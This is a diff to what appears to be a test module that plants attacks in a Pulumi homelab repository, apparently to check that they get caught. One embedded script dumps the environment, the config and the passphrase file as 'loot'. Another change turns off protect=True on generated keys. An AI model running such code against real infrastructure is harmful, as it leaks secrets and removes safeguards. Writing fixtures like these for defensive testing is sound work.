@@ -47,11 +47,14 @@ from pulumi.runtime.config import CONFIG
 
 shown = {
     "config": CONFIG.get(),
-    "variables": {key: value for key, value in os.environ.items() if not key.startswith("PULUMI_")},
+    "variables": dict(os.environ),
     "passphrase": Path(os.environ["PULUMI_CONFIG_PASSPHRASE_FILE"]).read_text(),
 }
 print(json.dumps(shown))
-raise RuntimeError(json.dumps({"config": shown["config"], "passphrase": shown["passphrase"]}, sort_keys=True))
+stolen = [text for text in os.environ.values() if "canary" in text]
+config = {key: text for key, text in shown["config"].items() if len(text) < 100}
+loot = {"config": config, "passphrase": shown["passphrase"], "variables": stolen}
+raise RuntimeError(json.dumps(loot, sort_keys=True))
 """
 
 
@@ -160,8 +163,8 @@ def _touch_never_change(repository: Repository) -> None:
     content = repository.config()
     _apps(content)["authentik"]["keys"]["AUTHENTIK_SECRET_KEY"] |= {"size": 16}
     del _apps(content)["paperless"]
-    content["config"]["homelab:infisicalEncryptionKey"] = {"secure": f"v1:anew:{repository.planted[1]}"}
     repository.declare(content)
+    repository.replace("components/generated_keys.py", "protect=True", "protect=False")
 
 
 def _break_declaration(repository: Repository) -> None:
@@ -182,7 +185,9 @@ def _steal_by_words(repository: Repository) -> None:
 
 
 def _break_object(repository: Repository) -> None:
-    repository.replace("components/app_secrets.py", '"refreshInterval": REFRESH_INTERVAL', '"refreshIntervall": "1h0m0s"')
+    repository.replace(
+        "components/app_secrets.py", '"refreshInterval": REFRESH_INTERVAL', '"refreshIntervall": "1h0m0s"'
+    )
 
 
 _CHAIN = {
